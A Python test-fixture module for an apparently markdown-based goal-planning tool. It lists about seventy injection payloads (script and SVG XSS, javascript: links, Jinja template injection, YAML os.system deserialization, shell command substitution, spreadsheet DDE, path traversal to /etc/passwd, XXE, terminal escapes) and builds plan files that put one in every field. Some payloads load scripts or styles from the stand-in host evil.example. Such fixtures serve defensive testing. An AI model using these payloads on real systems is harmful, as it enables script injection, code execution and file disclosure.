"""Texts that would do harm where they are not taken for text, and plans that carry one in every place for text."""

from __future__ import annotations

import json
from dataclasses import dataclass

HOST = "evil.example"

# Each would run, load or steer something in one of the places that text goes to.
PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script from elsewhere": '<script src="http://evil.example/a.js"></script>',
    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "script that closes": "</script><script>alert(1)</script>",
    "style that closes": "</style><script>alert(1)</script>",
    "title that closes": "</title></head><body onload=alert(1)>",
    "textarea": "</textarea><img src=x onerror=alert(1)>",
    "image error": "<img src=x onerror=alert(1)>",
    "attribute, double quote": '"><img src=x onerror=alert(1)>',
    "attribute, single quote": "'><img src=x onerror=alert(1)>",
    "attribute without end": '" onmouseover="alert(1)" x="',
    "attribute, single, no end": "' onfocus='alert(1)' autofocus tabindex='1",
    "attribute, backquote": "` onmouseover=alert(1) `",
    "unquoted": "x onmouseover=alert(1) ",
    "svg": "<svg onload=alert(1)>",
    "svg script": '<svg><script href="http://evil.example/a.js" /></svg>',
    "svg animate": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    "svg use": '<svg><use href="http://evil.example/a.svg#x"/></svg>',
    "svg that closes": "</text></svg><svg onload=alert(1)><desc>",
    "svg foreign": "<svg><foreignObject><iframe src=http://evil.example/></iframe></foreignObject></svg>",
    "math": '<math><mtext><img src="x" onerror="alert(1)"></mtext></math>',
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="http://evil.example/a.swf"></object><embed src="http://evil.example/b">',
    "base": '<base href="http://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "link": '<link rel="stylesheet" href="http://evil.example/a.css">',
    "attachment": '<link rel="attachment" href="file:///etc/passwd">',
    "form": '<form action="http://evil.example/"><input autofocus onfocus=alert(1)></form>',
    "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "comment that closes": "--><script>alert(1)</script><!--",
    "comment, odd end": "<!--><img src=x onerror=alert(1)>-->",
    "character data": "]]><script>alert(1)</script><![CDATA[",
    "processing": '<?xml-stylesheet href="http://evil.example/a.xsl"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "link to script": "[x](javascript:alert(1))",
    "link, entity in it": "[x](java&#115;cript&colon;alert(1)) [y](javascript&#58;alert(1))",
    "link, tab and line in it": "[x](<java&Tab;script:alert(1)>) [y](<java&NewLine;script:alert(1)>)",
    "link in capitals": "[x](JaVaScRiPt:alert(1)) [y](<&#1;javascript:alert(1)>)",
    "link, other schemes": "[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](blob:http://evil.example/1)",
    "link, data": "[x](data:text/html,<script>alert(1)</script>) [y](<data:text/html;base64,PHNjcmlwdD4=>)",
    "link, handlers": "[x](ms-msdt:/id) [y](search-ms:query=a) [z](about:blank)",
    "link, no scheme": r"[x](//evil.example/) [y](<\\evil.example\share>) [z](</\evil.example>)",
    "link, its title": "[x](https://example.org/ '\" onmouseover=\"alert(1)')",
    "autolink": "<javascript:alert(1)> <http://evil.example/?a=\"onmouseover=alert(1)>",
    "image from elsewhere": "![x](http://evil.example/a.png) ![y](//evil.example/b.png)",
    "image with a script": "![z](data:image/svg+xml,<svg/onload=alert(1)>) ![z](data:text/html;base64,PHNjcmlwdD4=)",
    "image, up": "![x](../secret.png) ![y](/etc/passwd) ![z](file:///etc/passwd) ![w](%2e%2e/secret.png)",
    "image, its words": '![" onerror="alert(1)](x.png)',
    "reference": "[x][evil] ![y][evil]",
    "css": "}</style><style>@import 'http://evil.example/a.css'; body{background:url(http://evil.example/b.png)",
    "css value": "red;background:url(http://evil.example/c.png)",
    "css, expression": 'x" style="background:url(http://evil.example/d.png);behavior:url(#e)',
    "jinja": "{{7*7}}{% raw %}{{ config }}{% include '/etc/passwd' %}{# x #}",
    "jinja, classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}{{ lipsum.__globals__ }}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}} *{7*7}",
    "yaml": "!!python/object/apply:os.system ['touch pwned']",
    "yaml, document": "--- &a [*a] ... <<: *b",
    "terminal": "&#27;[2J&#27;]0;title&#7;&#x9b;31m&#155;2J",
    "terminal link": "&#27;]8;;http://evil.example&#27;\\x&#27;]8;;&#27;\\ &#27;]52;c;eA==&#7;",
    "terminal, direction": "abc&#8238;fdp.exe&#8294;x \u202egnp.txt\u2066 \u200fa",
    "github": "%0A::error file=a.md,line=1::x ::set-output name=a::b ::stop-commands::x",
    "calendar": "x\\nBEGIN:VALARM ACTION:PROCEDURE ATTACH:file:///bin/sh END:VALARM;X=1,Y:2",
    "calendar, line end": "x&#13;&#10;ATTACH:http://evil.example/&#10;END:VEVENT",
    "spreadsheet": "=cmd|' /C calc'!A0 +1+1 @SUM(1) -3",
    "shell": "$(touch pwned) `touch pwned` ; touch pwned | touch pwned",
    "options": "-rf --help -o /etc/x",
    "path": "../../etc/passwd ..%2f..%2fetc %00 C:\\x \\\\evil.example\\share",
    "pdf": ") /S /JavaScript /JS (app.alert\\(1\\)) >> endobj",
}  # fmt: skip


@dataclass(frozen=True, slots=True)
class Hostile:
    """A plan with one payload wherever text can stand: one that is built, and one whose tags are wrong as well."""

    name: str
    text: str
    wrong: str


def hostile(name: str) -> Hostile:
    payload = PAYLOADS[name]
    return Hostile(name, plan_with(payload), plan_with(payload) + wrong_lines(payload))


def plan_with(payload: str) -> str:
    """A plan without errors that carries a text in all its slots."""
    quoted = json.dumps(payload, ensure_ascii=False)
    cell = payload.replace("|", "\\|")
    word = "".join(payload.split())
    return f"""\
---
title: {quoted}
author: {quoted}
partner: {quoted}
currency: {quoted}
tags: {quoted}
start: 2026-09-01
---

# {payload}

{payload}

> {payload}

~~~{word}
{payload}
~~~

| {cell} | b |
| --- | --- |
| {cell} | {cell} |

[evil]: javascript:alert(1) "{word}"
[other]: <https://example.org/{word}> '{payload}'

[{payload}](https://example.org/ok) [x][other] ![{payload}](none.png)

## {payload}

1. {payload}

## Self-assessment

- Values: {payload}
- Interests: {payload}
- Aptitudes: {payload}
- Personality: {payload}

{payload}

## Occupations

| Occupation | Stage | Duties | Earnings | {cell} |
| --- | --- | --- | --- | --- |
| {cell} | chosen | {cell} | {cell} | {cell} |
| Other | shortlist | {cell} | 5 | 6 |

## Short-term goals

### {payload} ~6m ^first @sam #label cost:100

{payload}

1. [x] {payload} ~2w done:2026-09-12
   - {payload}
2. [/] {payload} ~8w since:2026-09-14
   - Barrier: {payload} ~4w risk:40%
     - [ ] Solution: {payload} ~2w
     - Solution: {payload}
   - [ ] {payload} ~1w
3. [ ] {payload} ~1w due:2026-10-01
4. [?] {payload} ~1w
5. [-] {payload}
- Barrier: {payload}

#### {payload} ~1w

- [ ] {payload} ~1w every:week

## Primary objective

### {payload} ~1m after:first

## Someday

- {payload}

## Check-ins

- 2026-09-06 @sam: {payload}
- 2026-09-13: {payload}

## Notes

{payload}
"""


def wrong_lines(payload: str) -> str:
    """Lines whose tags cannot be read, and which findings therefore quote."""
    word = "".join(payload.split()).replace(",", "")
    return f"""
## Goals

### Wrong ~1w ^wrong

- [ ] z after:nobody {payload}
- [ ] a after:{word} {payload}
- [ ] b start:{word}
- [ ] c ~{word}d
- [ ] d risk:{word} cost:{word}
- [ ] e ^{word}
- [ ] f ^{word} every:{word}
- [ ] g dve:{word} wait:{word}
"""
